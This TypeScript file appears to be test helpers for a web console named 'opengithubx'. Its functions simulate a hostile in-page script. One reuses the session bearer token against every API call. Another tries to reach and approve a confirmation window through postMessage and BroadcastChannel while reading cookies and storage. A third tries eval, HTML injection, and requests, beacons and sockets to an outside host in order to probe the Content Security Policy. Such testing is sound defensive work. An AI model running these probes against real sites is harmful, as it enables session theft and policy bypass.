/** What an attacker's script in the console's page tries. These run in the page, so each stands on its own. */

export type Asked = { name: string; status: number; text: string };

/** Makes every call with every input and the bearer of the page, once without it, and reads what is told of changes. */
export async function everyCallFromPage({
  names,
  inputs,
  wait,
}: {
  names: string[];
  inputs: object[];
  wait: number;
}): Promise<Asked[]> {
  const bearer = sessionStorage.getItem('opengithubx.bearer');
  const seen: Asked[] = [];
  async function ask(name: string, input: object, authorization: string | undefined): Promise<void> {
    const headers = { 'content-type': 'application/json', ...(authorization && { authorization }) };
    const request = { method: 'POST', headers, body: JSON.stringify(input), signal: AbortSignal.timeout(wait) };
    let text = '';
    let status = 0;
    try {
      const reply = await fetch(`api/${name}`, request);
      ({ status } = reply);
      for await (const piece of reply.body ?? []) text += new TextDecoder().decode(piece);
    } catch (error) {
      if (status === 0) text = String(error); // else given up: it waits for a browser
    }
    seen.push({ name, status, text });
  }
  for (const name of [...names, 'session', 'confirmation', 'returned', 'tokens.list', '__proto__', 'constructor']) {
    const asked: Promise<void>[] = [];
    for (const [index, input] of inputs.entries()) {
      for (const authorization of [`Bearer ${bearer}`, undefined].slice(0, index === 0 ? 2 : 1)) {
        await new Promise((done) => setTimeout(done, 11)); // no faster than a window may
        asked.push(ask(name, input, authorization));
      }
    }
    await Promise.all(asked);
  }
  const page = ['', 'confirmation.html', 'returned', '../openapi.json', '../healthz', 'api/changes'];
  for (const path of page) {
    const answer = await fetch(path, { signal: AbortSignal.timeout(wait) }).catch(() => undefined);
    seen.push({ name: path, status: answer?.status ?? 0, text: (await answer?.text().catch(() => '')) ?? '' });
  }
  return seen;
}

/** Gets hold of the confirmation page, which the person has open and unlocked beside this one, in every way there is. */
export async function reachConfirmation(address: string): Promise<Record<string, unknown>> {
  const tried = async (act: () => unknown): Promise<unknown> => {
    try {
      return await act();
    } catch (error) {
      return error instanceof Error ? error.name : 'thrown';
    }
  };
  const later = (milliseconds: number) => new Promise((done) => setTimeout(done, milliseconds));
  const opened = window.open(address, 'attack');
  const named = window.open('', 'opengithubx-confirmation');
  const frame = document.createElement('iframe');
  frame.src = address;
  document.body.append(frame);
  const heard: unknown[] = [];
  addEventListener('message', ({ data }) => heard.push(data));
  const channels = ['opengithubx', 'opengithubx-returned', 'opengithubx-confirmation', 'confirmation'].map((name) => {
    const channel = new BroadcastChannel(name);
    channel.onmessage = ({ data }) => heard.push(data);
    channel.postMessage({ call: 'approvals.approve' });
    return channel;
  });
  opened?.postMessage({ call: 'approvals.approve' }, '*');
  named?.postMessage({ call: 'approvals.approve' }, '*');
  // As soon as the page has come, Chromium takes the handle to it away. A frame that was refused has loaded as well.
  await Promise.all([
    new Promise((loaded) => frame.addEventListener('load', loaded)),
    (async () => {
      while (opened && !opened.closed) await later(20);
    })(),
  ]);
  const result = {
    handle: await tried(() => opened?.closed || opened?.document.body.textContent),
    // Of that name there is no window that this one knows, so it is a new, empty one.
    named: await tried(() => named?.location.href),
    frame: await tried(() => frame.contentDocument?.querySelector('input, button') ?? null),
    worker: await tried(async () => String(await navigator.serviceWorker.register('assets/worker.js'))),
    shared: await tried(() => String(new SharedWorker('data:text/javascript,0'))),
    caches: await tried(async () => (await caches.keys()).length),
    databases: await tried(async () => (await indexedDB.databases()).length),
    opener: String(window.opener),
    heard,
    cookie: document.cookie,
    storage: Array.from({ length: localStorage.length }, (_, at) => localStorage.key(at)).join(),
  };
  for (const channel of channels) channel.close();
  named?.close();
  frame.remove();
  return result;
}

/** Tries to run code and markup, and to fetch from elsewhere. Answers what got through, once every refusal was told. */
export async function breakPolicy({
  elsewhere,
  told,
}: {
  elsewhere: string;
  /** The directives that the browser tells of, some of them once another process has said so. */
  told: string[];
}): Promise<{ through: string[] }> {
  const violated = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective));
  const through: string[] = [];
  // What the driver runs at once may use eval whatever the policy; what runs later may not.
  await new Promise((done) => setTimeout(done, 10));
  const attempt = (name: string, act: () => unknown): void => {
    try {
      act();
      through.push(name);
    } catch {
      // refused
    }
  };
  const place = document.createElement('div');
  document.body.append(place);
  // biome-ignore-start lint/security/noGlobalEval: that is the attack
  attempt('eval', () => globalThis.eval('1'));
  // biome-ignore-end lint/security/noGlobalEval: that was it
  attempt('Function', () => new Function('return 1')());
  attempt('innerHTML', () => {
    place.innerHTML = '<b>x</b>';
  });
  attempt('outerHTML', () => {
    place.outerHTML = '<b>x</b>';
  });
  attempt('insertAdjacentHTML', () => place.insertAdjacentHTML('beforeend', '<b>x</b>'));
  attempt('document.write', () => document.write('<b>x</b>'));
  attempt('DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
  attempt('srcdoc', () => {
    document.createElement('iframe').srcdoc = '<script>1</script>';
  });
  attempt('script text', () => {
    document.createElement('script').text = '1';
  });
  attempt('script src', () => {
    document.createElement('script').src = `${elsewhere}x.js`;
  });
  attempt('policy', () =>
    (
      globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    ).trustedTypes.createPolicy('any', { createHTML: (text: string) => text }),
  );
  attempt('worker', () => new Worker(`${elsewhere}worker.js`));
  attempt('string timer', () => {
    // biome-ignore lint/suspicious/noExplicitAny: a string is no handler by its type
    setTimeout('globalThis.ran = true' as any, 0);
  });
  attempt('WebAssembly', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));

  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value);
      } catch {
        // refused by Trusted Types
      }
    }
    document.body.append(element);
    return element;
  };
  add('img', { src: `${elsewhere}img` });
  add('link', { rel: 'stylesheet', href: `${elsewhere}style` });
  add('object', { data: `${elsewhere}object` });
  add('embed', { src: `${elsewhere}embed` });
  add('video', { src: `${elsewhere}video` });
  add('iframe', { src: `${elsewhere}frame` });
  add('base', { href: elsewhere });
  add('meta', { 'http-equiv': 'refresh', content: `9999;url=${elsewhere}` });
  add('div', { style: `background: url(${elsewhere}background)`, onclick: 'globalThis.ran = true' }).click();
  add('script', {}).append('globalThis.ran = true');
  new FontFace('x', `url(${elsewhere}font)`).load().catch(() => undefined);
  for (const method of ['get', 'post'])
    (add('form', { action: `${elsewhere}form`, method }) as HTMLFormElement).submit();
  navigator.sendBeacon(`${elsewhere}beacon`, 'x');
  await fetch(`${elsewhere}fetch`, { mode: 'no-cors' }).then(
    () => through.push('fetch'),
    () => undefined,
  );
  new EventSource(`${elsewhere}events`);
  try {
    new WebSocket(`${elsewhere.replace('http', 'ws')}socket`);
  } catch {
    // refused
  }
  while (told.some((directive) => !violated.has(directive))) await new Promise((done) => setTimeout(done, 20));
  await fetch('../healthz'); // what went out before it has arrived once this answers
  if ((globalThis as { ran?: boolean }).ran) through.push('inline code');
  if (document.baseURI.startsWith(elsewhere)) through.push('base');
  return { through };
}
